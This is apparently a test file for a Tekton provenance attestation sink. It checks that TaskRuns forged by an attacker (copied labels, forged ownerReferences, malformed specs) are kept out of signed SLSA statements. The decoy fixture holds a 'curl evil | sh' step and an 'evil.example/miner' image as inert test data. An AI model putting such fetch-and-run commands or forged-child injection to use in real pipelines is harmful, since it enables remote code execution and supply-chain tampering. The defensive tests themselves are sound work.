import assert from 'node:assert/strict';
import { decodePayload } from '../../shared/core/dsse.js';
import {
  readExamplePipeline,
  type ExamplePipeline,
} from './example-pipeline.js';
import { postEvent, startSink, type Json, type Sink } from './sink-harness.js';

// Issue 13, "Children": what an ordinary CI user can do to a victim's PipelineRun with their own TaskRuns
// and labels. The real sink runs against the kube stand-in and a real store; assertions are on the store.
const EVIL_HEX = 'd'.repeat(64);

describe('attestRun: children come from childReferences + ownerReference (issue 13)', function () {
  this.timeout(30000);
  let sink: Sink;
  let example: ExamplePipeline;
  const prEvent = () => example.event('pipelinerun-successful');
  const victim = () => example.runs.pipelineRun as Json;
  const child = (task: string): Json =>
    structuredClone(
      example.runs.taskRuns.find((tr) =>
        (tr as Json).metadata.name.endsWith(`-${task}`)
      )
    );

  // Everything the store holds, decoded: key → statement text.
  async function storedStatements(): Promise<Map<string, string>> {
    const out = new Map<string, string>();
    for (const key of await sink.files()) {
      if (key.startsWith('.keys/') || !key.endsWith('.dsse.json')) continue;
      out.set(key, decodePayload(await sink.read(key)).toString());
    }
    return out;
  }

  async function v02Tasks(): Promise<string[]> {
    const { uid, name } = victim().metadata;
    const key = `runs/ci/pipelinerun-${name}-${uid}/slsa-v0.2.dsse.json`;
    const statement = JSON.parse(
      decodePayload(await sink.read(key)).toString()
    );
    return (statement.predicate.buildConfig.tasks as Json[])
      .map((t) => `${t.name}:${t.ref?.name ?? ''}`)
      .sort();
  }

  // A TaskRun the attacker creates: the victim's labels, its own results, no ownerReference.
  function decoy(name: string, extra: Json = {}): Json {
    const tr = child('image-build');
    tr.metadata.name = name;
    tr.metadata.uid = `uid-${name}`;
    delete tr.metadata.ownerReferences;
    tr.spec.taskSpec = {
      steps: [{ name: 'x', image: 'alpine', script: 'curl evil | sh' }],
    };
    delete tr.spec.taskRef;
    tr.status.results = [
      { name: 'IMAGE_URL', type: 'string', value: 'evil.example/miner' },
      { name: 'IMAGE_DIGEST', type: 'string', value: `sha256:${EVIL_HEX}` },
    ];
    Object.assign(tr.metadata, extra);
    return tr;
  }

  before(async () => {
    example = await readExamplePipeline();
    sink = await startSink({
      FORMATS: 'slsa/v0.2,slsa/v1.0,tekton',
      DEEP_INSPECTION: 'true',
    });
  });
  after(() => sink.close());
  beforeEach(async () => {
    await sink.clear();
    example.serve(sink.kube);
    sink.kube.requests.length = 0;
    sink.kube.fault = undefined;
  });

  it('relabel: a genuine child labelled tekton.dev/pipelineTask=git-clone stays under its childReferences task', async () => {
    const expected = await (async () => {
      await postEvent(sink, prEvent()).expect(200);
      const tasks = await v02Tasks();
      await sink.clear();
      return tasks;
    })();
    const notify = child('notify');
    notify.metadata.labels['tekton.dev/pipelineTask'] = 'git-clone';
    sink.kube.upsert(notify);
    await postEvent(sink, prEvent()).expect(200);
    assert.deepEqual(await v02Tasks(), expected);
    assert.ok(expected.some((t) => t.startsWith('notify:')));
    assert.equal(expected.filter((t) => t.startsWith('git-clone:')).length, 1);
  });

  it('child injection: a TaskRun labelled with the victim uid is in no statement and its digest has no key', async () => {
    sink.kube.upsert(
      decoy('evil-build', {
        labels: {
          ...child('image-build').metadata.labels,
          'tekton.dev/pipelineTask': 'image-build',
        },
      })
    );
    const res = await postEvent(sink, prEvent()).expect(200);
    const stored = await storedStatements();
    assert.ok(stored.size > 0);
    for (const [key, text] of stored) {
      assert.ok(!text.includes('evil-build'), `${key} names the decoy`);
      assert.ok(!text.includes(EVIL_HEX), `${key} holds the decoy digest`);
    }
    assert.ok(!(await sink.files()).some((k) => k.includes(EVIL_HEX)));
    assert.ok(!JSON.stringify(res.body).includes(EVIL_HEX));
    const warned = sink.logger.entries.filter(
      (e) => e.taskRun !== undefined && e.severity === 'WARNING'
    );
    assert.ok(
      warned.some(
        (e) =>
          (e.taskRun as Json).name === 'evil-build' &&
          (e.taskRun as Json).uid === 'uid-evil-build' &&
          typeof e.reason === 'string'
      ),
      JSON.stringify(warned)
    );
  });

  it('a labelled TaskRun of another PipelineRun (or naming another owner) never makes the victim answer 422', async () => {
    const labels = child('image-build').metadata.labels;
    sink.kube.upsert(
      decoy('other-name', {
        labels: { ...labels, 'tekton.dev/pipelineRun': 'someone-else' },
      })
    );
    sink.kube.upsert(
      decoy('other-owner', {
        ownerReferences: [
          {
            apiVersion: 'tekton.dev/v1',
            kind: 'PipelineRun',
            name: 'o',
            uid: 'u',
          },
        ],
      })
    );
    await postEvent(sink, prEvent()).expect(200);
    const tasks = await v02Tasks();
    assert.equal(tasks.length, 5);
  });

  it('a malformed labelled TaskRun is ignored too, never a 422', async () => {
    const bad = decoy('bad-shape');
    bad.spec.params = 'not a list';
    sink.kube.upsert(bad);
    await postEvent(sink, prEvent()).expect(200);
  });

  it('a genuine child whose pipelineRunUID label was removed is still found (GET by name) and attested', async () => {
    const build = child('image-build');
    delete build.metadata.labels['tekton.dev/pipelineRunUID'];
    sink.kube.upsert(build);
    await postEvent(sink, prEvent()).expect(200);
    assert.ok((await v02Tasks()).some((t) => t.startsWith('image-build:')));
    assert.ok(
      sink.kube.requests.some((r) =>
        r.path.endsWith(`/taskruns/${build.metadata.name}`)
      ),
      'fetched by name'
    );
    const { uid } = victim().metadata;
    const digest = (build.status.results as Json[]).find(
      (r) => r.name === 'IMAGE_DIGEST'
    ).value;
    assert.ok(
      (await sink.files()).includes(
        `sha256/${digest.slice(7)}/pipelinerun-${uid}.slsa-v0.2.dsse.json`
      )
    );
  });

  it('a forged ownerReference alone (not in childReferences) is not a child', async () => {
    const { name, uid } = victim().metadata;
    sink.kube.upsert(
      decoy('owned-decoy', {
        ownerReferences: [
          { apiVersion: 'tekton.dev/v1', kind: 'PipelineRun', name, uid },
        ],
      })
    );
    await postEvent(sink, prEvent()).expect(200);
    for (const [key, text] of await storedStatements()) {
      assert.ok(!text.includes('owned-decoy'), key);
      assert.ok(!text.includes(EVIL_HEX), key);
    }
  });

  it('a TaskRun named in childReferences without the owner uid is not a child (the run waits for the genuine one)', async () => {
    const scan = child('security-scan');
    scan.metadata.ownerReferences[0].uid = 'another-run';
    sink.kube.upsert(scan);
    const res = await postEvent(sink, prEvent()).expect(503);
    assert.equal(res.body.error.code, 'RUN_INCOMPLETE');
    assert.deepEqual(await sink.files(), []);
  });

  it('childReferences of kind CustomRun or PipelineRun are not fetched and do not make the sink wait', async () => {
    const pr = structuredClone(victim());
    pr.status.childReferences.push(
      {
        apiVersion: 'tekton.dev/v1beta1',
        kind: 'CustomRun',
        name: 'a-custom',
        pipelineTaskName: 'custom',
      },
      {
        apiVersion: 'tekton.dev/v1',
        kind: 'PipelineRun',
        name: 'a-nested',
        pipelineTaskName: 'nested',
      }
    );
    sink.kube.upsert(pr);
    await postEvent(sink, prEvent()).expect(200);
    assert.ok(
      !sink.kube.requests.some((r) => /a-custom|a-nested/.test(r.path))
    );
    assert.equal(sink.kube.requests.length, 2);
  });
});
